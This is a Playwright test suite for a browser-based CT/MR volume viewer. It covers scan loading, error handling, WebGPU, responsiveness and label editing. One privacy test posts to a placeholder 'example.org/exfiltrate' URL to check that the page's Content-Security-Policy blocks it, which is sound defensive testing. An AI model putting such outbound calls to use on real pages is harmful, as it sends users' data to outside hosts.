import path from 'node:path';
import { canvasDiff, expect, loadDemo, openApp, SHARED, test, truncatedCopy } from './fixtures';

test('the demo CT loads with its label overlay drawn over the scan', async ({ page }) => {
  await loadDemo(page);
  await expect(page.getByTestId('header-panel')).toContainText('122 × 101 × 30');
  await expect(page.getByTestId('header-panel')).toContainText('RAS');
  const canvas = page.getByTestId('viewer-canvas');
  await page.waitForTimeout(500);
  const withLabels = await canvas.screenshot();
  await page.getByTestId('label-opacity').fill('0');
  await page.waitForTimeout(500);
  const withoutLabels = await canvas.screenshot();
  // Labels add colour over thousands of pixels; with opacity 0 they are gone.
  expect(await canvasDiff(page, withLabels, withoutLabels)).toBeGreaterThan(5000);
  // per-label volumes: liver 38,634 voxels of 27 mm³ = 1043.1 mL
  await expect(page.getByTestId('label-table')).toContainText('1043.1');
});

test('a volume loads through the file input and its header is shown', async ({ page }) => {
  await openApp(page);
  await page
    .getByTestId('file-input')
    .setInputFiles(path.join(SHARED, 'data/volumes/mr/nibabel_anatomical.nii'));
  await expect(page.getByTestId('scan-list')).toContainText('nibabel_anatomical.nii');
  const header = page.getByTestId('header-panel');
  await expect(header).toContainText('33 × 41 × 25');
  await expect(header).toContainText('LAS');
  await expect(header).toContainText('big');
});

test('NRRD loads too', async ({ page }) => {
  await openApp(page);
  await page
    .getByTestId('file-input')
    .setInputFiles(path.join(SHARED, 'data/volumes/nrrd/pyradiomics_breast1_image.nrrd'));
  await expect(page.getByTestId('header-panel')).toContainText('45 × 120 × 21');
  await expect(page.getByTestId('header-panel')).toContainText('LPS');
});

test('a truncated file gives a clear error in the page and keeps what was loaded', async ({ page }) => {
  await loadDemo(page);
  const broken = truncatedCopy('data/volumes/ct/ts_example_ct.nii.gz', 100_000);
  await page.getByTestId('file-input').setInputFiles(broken);
  const banner = page.getByTestId('banner-error');
  await expect(banner).toContainText('truncated_ts_example_ct.nii.gz');
  await expect(banner).toContainText('truncated');
  await expect(page.getByTestId('scan-list')).toContainText('ts_example_ct_sm.nii.gz');
  await expect(page.getByTestId('label-table')).toContainText('liver');
});

test('a label map on another grid is refused with a clear error', async ({ page }) => {
  await loadDemo(page);
  await page
    .getByTestId('label-input')
    .setInputFiles(path.join(SHARED, 'data/volumes/mr/ts_example_mr_sm_seg.nii.gz'));
  const banner = page.getByTestId('banner-error');
  await expect(banner).toContainText('ts_example_mr_sm_seg.nii.gz');
  await expect(banner).toContainText('does not match');
});

test('WebGPU computes in this browser (a compute shader checked against JS)', async ({ page }) => {
  await openApp(page);
  const result = await page.evaluate(async () => {
    const adapter = await navigator.gpu?.requestAdapter();
    if (!adapter) return { error: 'no adapter' };
    const device = await adapter.requestDevice();
    const n = 4096;
    const a = new Float32Array(n).map((_, i) => Math.sin(i));
    const b = new Float32Array(n).map((_, i) => Math.cos(i));
    const mk = (data: Float32Array<ArrayBuffer>) => {
      const buf = device.createBuffer({
        size: data.byteLength,
        usage: GPUBufferUsage.STORAGE | GPUBufferUsage.COPY_DST,
      });
      device.queue.writeBuffer(buf, 0, data);
      return buf;
    };
    const ba = mk(a);
    const bb = mk(b);
    const out = device.createBuffer({ size: n * 4, usage: GPUBufferUsage.STORAGE | GPUBufferUsage.COPY_SRC });
    const read = device.createBuffer({
      size: n * 4,
      usage: GPUBufferUsage.MAP_READ | GPUBufferUsage.COPY_DST,
    });
    const module = device.createShaderModule({
      code: `@group(0) @binding(0) var<storage, read> a: array<f32>;
             @group(0) @binding(1) var<storage, read> b: array<f32>;
             @group(0) @binding(2) var<storage, read_write> o: array<f32>;
             @compute @workgroup_size(64) fn main(@builtin(global_invocation_id) g: vec3u) {
               if (g.x < arrayLength(&o)) { o[g.x] = a[g.x] * 2.0 + b[g.x] * b[g.x]; }
             }`,
    });
    const pipeline = device.createComputePipeline({
      layout: 'auto',
      compute: { module, entryPoint: 'main' },
    });
    const bind = device.createBindGroup({
      layout: pipeline.getBindGroupLayout(0),
      entries: [ba, bb, out].map((buffer, binding) => ({ binding, resource: { buffer } })),
    });
    const enc = device.createCommandEncoder();
    const pass = enc.beginComputePass();
    pass.setPipeline(pipeline);
    pass.setBindGroup(0, bind);
    pass.dispatchWorkgroups(n / 64);
    pass.end();
    enc.copyBufferToBuffer(out, 0, read, 0, n * 4);
    device.queue.submit([enc.finish()]);
    await read.mapAsync(GPUMapMode.READ);
    const got = new Float32Array(read.getMappedRange().slice(0));
    let maxErr = 0;
    for (let i = 0; i < n; i++) maxErr = Math.max(maxErr, Math.abs(got[i] - (a[i] * 2 + b[i] * b[i])));
    return { maxErr, fallback: adapter.info.isFallbackAdapter };
  });
  expect(result).not.toHaveProperty('error');
  expect((result as { maxErr: number }).maxErr).toBeLessThan(1e-5);
  await expect(page.getByTestId('backend-chip')).toContainText('WebGPU');
});

test('no request leaves the origin while a volume is loaded and shown', async ({ page, requests }) => {
  await loadDemo(page);
  await page
    .getByTestId('file-input')
    .setInputFiles(path.join(SHARED, 'data/volumes/mr/nibabel_anatomical.nii'));
  await expect(page.getByTestId('scan-list')).toContainText('nibabel_anatomical.nii');
  const origin = new URL(page.url()).origin;
  const foreign = requests.filter(
    (u) => !u.startsWith(origin) && !u.startsWith('data:') && !u.startsWith('blob:'),
  );
  expect(foreign).toEqual([]);
  expect(requests.length).toBeGreaterThan(3);
  // and the page forbids it: a Content-Security-Policy limiting connections to the origin
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("connect-src 'self'");
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('https://example.org/exfiltrate', { method: 'POST', body: 'x' });
      return false;
    } catch {
      return true;
    }
  });
  expect(blocked).toBe(true);
});

test('the static build works under a sub-path and becomes cross-origin isolated via its service worker', async ({
  page,
}) => {
  // the plain server sends no COOP/COEP: the service worker adds them and the page reloads once
  await openApp(page);
  expect(page.url()).toContain('/tessera/');
  expect(await page.evaluate(() => typeof SharedArrayBuffer)).toBe('function');
});

test('the page stays responsive while the 256³ T1 is read and decompressed (in a worker)', async ({
  page,
}) => {
  await openApp(page);
  // A heartbeat on the main thread: every tick's time, to find the longest stall while the file is read.
  await page.evaluate(() => {
    const w = window as unknown as { ticks: number[] };
    w.ticks = [];
    window.setInterval(() => w.ticks.push(performance.now()), 10);
  });
  const name = 'brainchop_t1_crop.nii.gz';
  await page.getByTestId('file-input').setInputFiles(path.join(SHARED, 'data/volumes/mr', name));
  await expect(page.getByTestId('header-panel')).toContainText('256 × 256 × 256');
  await expect(page.getByTestId('header-panel')).toContainText('LIA');
  const r = await page.evaluate((n) => {
    const ticks = (window as unknown as { ticks: number[] }).ticks;
    const opened = performance.getEntriesByName(`tessera:opened:${n}`)[0].startTime;
    let maxGap = 0;
    let readTicks = 0;
    for (let i = 1; i < ticks.length && ticks[i] <= opened; i++) {
      maxGap = Math.max(maxGap, ticks[i] - ticks[i - 1]);
      readTicks++;
    }
    return { maxGap, readTicks, opened };
  }, name);
  console.log(
    `T1 read in the worker while the page ticked ${r.readTicks} times; longest stall ${r.maxGap.toFixed(0)} ms`,
  );
  // 16 MB decompressed and parsed off the main thread: the page keeps ticking throughout.
  expect(r.readTicks).toBeGreaterThan(5);
  expect(r.maxGap).toBeLessThan(250);
});

test('correcting a label map: paint with a label, undo, apply — the table follows; discard leaves it untouched', async ({
  page,
}) => {
  await loadDemo(page);
  await page.getByRole('button', { name: 'Axial' }).click();
  const liver = page.locator('[data-testid=label-table] tr[data-label=liver]');
  const before = Number(await liver.getAttribute('data-voxels'));
  const canvas = page.getByTestId('viewer-canvas');
  const box = (await canvas.boundingBox())!;
  const stroke = async (dy: number) => {
    await page.mouse.move(box.x + box.width / 2 - 150, box.y + box.height / 2 + dy);
    await page.mouse.down();
    for (let i = 0; i < 20; i++)
      await page.mouse.move(box.x + box.width / 2 - 150 + i * 10, box.y + box.height / 2 + dy + i * 2);
    await page.mouse.up();
  };
  // discard: nothing changes
  await page.getByTestId('edit-labels').click();
  await page.getByTestId('pen-label').selectOption('5');
  await stroke(-150);
  await page.getByRole('button', { name: 'Discard' }).click();
  await expect(liver).toHaveAttribute('data-voxels', String(before));
  // paint, undo, paint again, apply: the liver grows by the second stroke only
  await page.getByTestId('edit-labels').click();
  await page.getByTestId('pen-label').selectOption('5');
  await stroke(-150);
  await page.keyboard.press('Control+z');
  await stroke(-100);
  await page.getByTestId('apply-edits').click();
  await expect.poll(async () => Number(await liver.getAttribute('data-voxels'))).toBeGreaterThan(before);
  await expect(page.getByTestId('label-list')).toContainText('demo');
});
